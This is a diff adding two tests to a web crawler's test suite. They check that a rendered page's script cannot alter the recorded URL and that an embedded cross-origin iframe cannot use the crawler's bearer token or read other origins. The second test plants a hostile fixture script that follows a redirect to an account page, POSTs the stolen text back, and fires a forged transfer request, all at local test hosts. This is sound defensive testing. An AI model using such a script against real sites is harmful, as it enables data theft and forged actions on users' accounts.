@@ -161,3 +161,32 @@ def test_what_a_killed_scraper_left_of_its_browser_is_removed() -> None:
     assert (left.exists(), lives.exists(), made.exists()) == (False, True, True)
     for folder in (lives, made):
         folder.rmdir()
+
+
+async def test_what_a_script_makes_of_the_address_is_not_the_pages(site: Site) -> None:
+    site.page(
+        "/", "<h1>here</h1><a href=/next>n</a><script>history.replaceState(0, '', '/' + 'x'.repeat(6000))</script>"
+    )
+    found = await rendered(site.url + "/")
+    assert (found["failure"], found["final_url"]) == (None, site.url + "/")
+
+
+async def test_a_frame_has_none_of_our_credentials_and_reads_no_other_origin(crawler: Crawler, site: Site) -> None:
+    with running("127.0.0.7") as other:
+        site.page("/", f'<h1>here</h1><iframe src="{other.url}/frame"></iframe>')
+        site.page("/account", "number 4711")
+        site.page("/transfer", "done")
+        other.page(
+            "/frame",
+            f"<script>fetch('/go').then(r => r.text()).then(t => fetch('/got', {{method: 'POST', body: t}}));"
+            f"fetch('{site.url}/transfer', {{method: 'POST', mode: 'no-cors'}})</script>",
+        )
+        other.raw("/go", f"HTTP/1.1 302 F\r\nLocation: {site.url}/account\r\nContent-Length: 0\r\n\r\n".encode())
+        source = Source(
+            name="s", start=(site.url + "/",), follow=False, render=True, headers={"Authorization": "Bearer S3CRET"}
+        )
+        await crawler.run(source, Http(delay=0, allow_networks=("127.0.0.0/8",)))
+        asked = {one.path: one.headers.get("authorization") for one in site.log if one.path != "/robots.txt"}
+        assert asked["/"] == "Bearer S3CRET"
+        assert [said for path, said in asked.items() if path != "/"] in ([None, None], [None])
+        assert [one for one in other.log if one.path == "/got"] == []
